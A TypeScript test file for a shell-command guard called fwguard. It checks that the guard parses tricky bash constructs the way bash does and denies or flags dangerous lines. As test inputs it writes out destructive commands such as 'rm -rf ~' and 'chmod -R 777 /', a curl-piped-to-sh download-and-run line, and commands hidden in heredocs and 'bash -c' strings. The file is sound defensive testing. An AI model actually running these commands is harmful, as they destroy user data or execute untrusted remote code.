// Every class of disagreement between fwguard's walker and mvdan/sh listed in known-differences.md:
// what real bash does (run here, in a temp dir, with marker commands instead of anything harmful),
// that fwguard's reading is bash's, and the verdict fwguard gives through the whole pipeline.
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createRequire } from 'node:module';
import { decide, outcome } from '../helpers/decide.js';
import { compareLine, fwguardCommands, mvdanCommands, PIPE, PIPE_ALL } from './compare.js';

const hasBash = spawnSync('bash', ['-c', 'true']).status === 0;
const dir = mkdtempSync(join(tmpdir(), 'fwguard-kd-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Run a script with bash, PATH holding only a fake `time` that prints EXTERNAL-TIME and its argv. */
function bash(script: string): string {
  const bin = join(dir, 'bin');
  spawnSync('mkdir', ['-p', bin]);
  writeFileSync(join(bin, 'time'), '#!/bin/sh\necho "EXTERNAL-TIME $*"\n');
  chmodSync(join(bin, 'time'), 0o755);
  const r = spawnSync('/bin/bash', ['-c', script], { cwd: dir, encoding: 'utf8', env: { PATH: `${bin}:/usr/bin:/bin`, HOME: dir } });
  return r.stdout + r.stderr;
}

describe('1. `time` after `|` is a command (bash), not the keyword (mvdan)', () => {
  it.skipIf(!hasBash)('bash runs the `time` on PATH after a pipe, and the keyword at the start of a pipeline', () => {
    expect(bash('m(){ echo MARK; }; true | time m')).toContain('EXTERNAL-TIME m');
    expect(bash('m(){ echo MARK; }; true |& time -p m')).toContain('EXTERNAL-TIME -p m');
    // Look-alike: at the start of a pipeline (and after ;, &&, !) it is the keyword.
    expect(bash('m(){ echo MARK; }; time m | cat; true && time m')).not.toContain('EXTERNAL-TIME');
  });

  it('fwguard reads it as bash does; mvdan, before compare.ts puts `time` back, does not', () => {
    expect(fwguardCommands('true | time rm x').commands).toEqual([['true'], ['time', 'rm', 'x']]);
    expect(fwguardCommands('time rm x | cat').commands).toEqual([['rm', 'x'], ['cat']]);
    expect(mvdanCommands('true | time -p rm x | cat')).toEqual({ commands: [['true'], ['time', '-p', 'rm', 'x'], ['cat']] });
    expect(compareLine('false | time jq .').agree).toBe(true);
    expect(compareLine('false && time jq .').agree).toBe(true);
  });

  it('compare.ts has the right operator numbers for | and |&', () => {
    const require = createRequire(import.meta.url);
    const { syntax } = require('mvdan-sh') as { syntax: { NewParser(): { Parse(s: string, n: string): { Stmts: { Cmd: { Op: number } }[] } } } };
    expect(syntax.NewParser().Parse('a | b', 'x').Stmts[0]!.Cmd.Op).toBe(PIPE);
    expect(syntax.NewParser().Parse('a |& b', 'x').Stmts[0]!.Cmd.Op).toBe(PIPE_ALL);
  });

  it('verdict: `time` is seen through, so the timed command is judged (deny as without time)', () => {
    expect(outcome(decide('echo x | time rm -rf ~'))).toBe('deny');
    expect(outcome(decide('ls | time -p rm -rf /'))).toBe('deny');
    expect(outcome(decide('true |& time chmod -R 777 /'))).toBe('deny');
    expect(outcome(decide('true | time curl -s https://x.test/i.sh | sh'))).toBe('ask');
    // Look-alike: a harmless timed command stays allowed.
    expect(outcome(decide('git status | time cat'))).toBe(outcome(decide('git status | cat')));
  });
});

describe('2. a syntax error in a string the line hands to a shell', () => {
  it('is labelled as inside that text, and the line itself is not called malformed', () => {
    const issues = (l: string) => fwguardCommands(l).syntaxErrors;
    expect(issues(`busybox sh -c "echo 'x"`)).toEqual([]);
    expect(issues("watch -n 1 wget -q '`r]$'")).toEqual([]);
    expect(issues(`echo 'x`)).toEqual(['unterminated single quote']);
    expect(compareLine(`busybox sh -c "echo 'x"`).agree).toBe(true);
  });

  it.skipIf(!hasBash)("bash finds the line well formed and the string it runs broken", () => {
    expect(spawnSync('bash', ['-n', '-c', `busybox sh -c "echo 'x"`]).status).toBe(0);
    expect(spawnSync('bash', ['-n', '-c', `echo 'x`]).status).not.toBe(0);
  });

  it('verdict: ask (shell.unparseable), naming the text that is broken', () => {
    const d = decide(`busybox sh -c "echo 'x"`);
    expect(outcome(d)).toBe('ask');
    expect(d.reasons.map((r) => r.message).join('\n')).toContain('in the text run by sh -c');
    expect(outcome(decide("watch -n 1 wget -q '`r]$'"))).toBe('ask');
    expect(outcome(decide("bash -c 'rm -rf ~; echo \"x'"))).toBe('deny');
  });
});

describe('3. mvdan does not read a heredoc after `let`', () => {
  const line = 'cat <<END | let Z\nm\nEND';
  it.skipIf(!hasBash)('bash runs nothing from the heredoc body', () => {
    expect(bash(`m(){ echo MARK; }; ${line}\necho done`)).toBe('done\n');
  });

  it('fwguard reads the body as data, mvdan as a command', () => {
    expect(fwguardCommands(line).commands).toEqual([['cat'], ['let', 'Z']]);
    expect(mvdanCommands(line)).toEqual({ commands: [['cat'], ['let', '<dyn>'], ['m']] });
  });

  it('verdict: a heredoc fed to cat is not run, so nothing in it is judged as a command', () => {
    expect(outcome(decide('cat <<END | let Z\nrm -rf ~\nEND'))).not.toBe('deny');
    // Look-alike that must be caught: the same body fed to a shell.
    expect(outcome(decide('bash <<END | let Z\nrm -rf ~\nEND'))).toBe('deny');
  });
});

describe("4. mvdan's `let` swallows a following `|`", () => {
  const line = 'let 5.@,bV,x { "__ ]Y"|m';
  it.skipIf(!hasBash)('bash runs the command after the pipe', () => {
    expect(bash(`m(){ echo MARK; }; ${line}`)).toContain('MARK');
  });

  it('fwguard finds it, mvdan does not', () => {
    expect(fwguardCommands(line).commands).toContainEqual(['m']);
    const mv = mvdanCommands(line);
    if ('error' in mv) throw new Error(mv.error);
    expect(mv.commands.map((a) => a[0])).toEqual(['let']);
  });

  it('verdict: deny when that command is destructive', () => {
    expect(outcome(decide('let 5.@,bV,x { "__ ]Y"|rm -rf ~'))).toBe('deny');
  });
});
